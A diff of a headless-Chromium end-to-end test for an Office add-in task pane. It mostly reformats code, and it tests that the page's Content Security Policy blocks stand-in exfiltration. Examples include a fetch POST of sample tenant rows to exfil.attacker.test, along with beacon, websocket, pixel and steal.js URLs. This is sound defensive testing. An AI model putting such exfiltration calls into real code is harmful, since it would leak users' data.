@@ -91,7 +91,15 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
     ({ server, origin } = await serveDist());
     browser = await chromium.launch({
       executablePath: CHROMIUM,
-      args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
+      args: [
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-quic",
+        "--no-first-run",
+        "--disable-background-networking",
+        "--disable-component-update",
+        "--disable-sync",
+      ],
     });
   }, TIMEOUT);
 
@@ -140,7 +148,7 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
       expect(await violations(page)).toEqual([]);
       await page.close();
     },
-    TIMEOUT,
+    TIMEOUT
   );
 
   e2e(
@@ -152,7 +160,7 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
       expect(pageErrors).toEqual([]);
       await page.close();
     },
-    TIMEOUT,
+    TIMEOUT
   );
 
   e2e(
@@ -170,7 +178,12 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
       // functions.js (it registered every SPD function), and requests to the page's own origin.
       const associated = await page.evaluate(() => (window as unknown as { __associated: string[] }).__associated);
       expect(associated).toEqual(expect.arrayContaining(["POINTS", "TARGET", "STATUS"]));
-      const ownOrigin = await page.evaluate(() => fetch("functions.json").then((r) => r.status, (e) => String(e)));
+      const ownOrigin = await page.evaluate(() =>
+        fetch("functions.json").then(
+          (r) => r.status,
+          (e) => String(e)
+        )
+      );
       expect(ownOrigin).toBe(200);
       // Fluent UI's run-time styles (Griffel's <style> elements) apply: the message bar has its border.
       const border = await page.locator(".fui-MessageBar").evaluate((e) => getComputedStyle(e).borderTopStyle);
@@ -182,7 +195,7 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
         const rows = JSON.stringify([["Contoso Ltd", "tenant-1", 120]]);
         const fetched = await fetch("https://exfil.attacker.test/collect", { method: "POST", body: rows }).then(
           () => "sent",
-          (e: Error) => `${e.name}: ${e.message}`,
+          (e: Error) => `${e.name}: ${e.message}`
         );
         let beacon: string;
         try {
@@ -235,7 +248,7 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
       const refused = await violations(page);
       const byDirective = (directive: string) => refused.filter((v) => v.directive === directive).map((v) => v.blocked);
       expect(byDirective("connect-src")).toEqual(
-        expect.arrayContaining(["https://exfil.attacker.test/collect", "https://beacon.attacker.test/b", "wss://socket.attacker.test/"]),
+        expect.arrayContaining(["https://exfil.attacker.test/collect", "https://beacon.attacker.test/b", "wss://socket.attacker.test/"])
       );
       expect(byDirective("img-src")).toEqual([expect.stringMatching(/^https:\/\/pixel\.attacker\.test\//)]);
       expect(byDirective("script-src-elem")).toEqual(expect.arrayContaining(["inline", "https://cdn.attacker.test/steal.js"]));
@@ -245,7 +258,7 @@ describe("dist/taskpane.html outside Office in headless Chromium", () => {
       expect(pageErrors).toEqual([]);
       await page.close();
     },
-    TIMEOUT,
+    TIMEOUT
   );
 
   test("the playground page carries the task pane's policy", () => {
